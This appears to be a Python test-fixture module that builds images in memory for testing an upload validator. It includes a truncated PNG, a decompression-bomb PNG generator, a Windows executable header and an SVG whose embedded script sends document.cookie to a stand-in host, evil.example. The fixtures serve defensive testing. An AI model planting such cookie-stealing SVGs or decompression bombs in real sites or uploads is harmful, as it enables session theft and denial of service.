"""Real image files, and real bad ones, made in memory for upload tests."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def image_bytes(fmt: str = "PNG", size: tuple[int, int] = (300, 250), noise: bool = False) -> bytes:
    """A real image; ``noise`` makes it large and incompressible (for truncation tests)."""
    if noise:
        import random

        rng = random.Random(7)
        image = Image.frombytes("RGB", size, bytes(rng.getrandbits(8) for _ in range(size[0] * size[1] * 3)))
    else:
        image = Image.new("RGB", size, (36, 83, 214))
    buffer = io.BytesIO()
    image.save(buffer, format=fmt)
    return buffer.getvalue()


def png(size: tuple[int, int] = (300, 250)) -> bytes:
    return image_bytes("PNG", size)


def truncated(fmt: str = "PNG") -> bytes:
    """A real image cut off half way, as a broken upload leaves it."""
    data = image_bytes(fmt, (200, 200), noise=True)
    return data[: len(data) // 2]


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 9_000, height: int = 9_000) -> bytes:
    """A genuine decompression bomb: a 1-bit PNG a few KB small that unpacks to width×height pixels."""
    row = b"\x00" + b"\x00" * ((width + 7) // 8)
    compressor = zlib.compressobj(9)
    body = b"".join(compressor.compress(row) for _ in range(height)) + compressor.flush()
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


# A Windows program's first bytes: the "MZ" header and DOS stub, as in any .exe.
WINDOWS_PROGRAM = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00\xb8" + b"\x00" * 43 + b"\x80\x00\x00\x00"
    b"\x0e\x1f\xba\x0e\x00\xb4\t\xcd!\xb8\x01L\xcd!This program cannot be run in DOS mode.\r\r\n$"
    + b"\x00"
    * 64
)

SVG_WITH_SCRIPT = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg" width="300" height="250">'
    b'<rect width="300" height="250" fill="#2453d6"/>'
    b"<script>fetch('https://evil.example/?c='+document.cookie)</script></svg>"
)

FIFTY_MB = 50 * 1024 * 1024
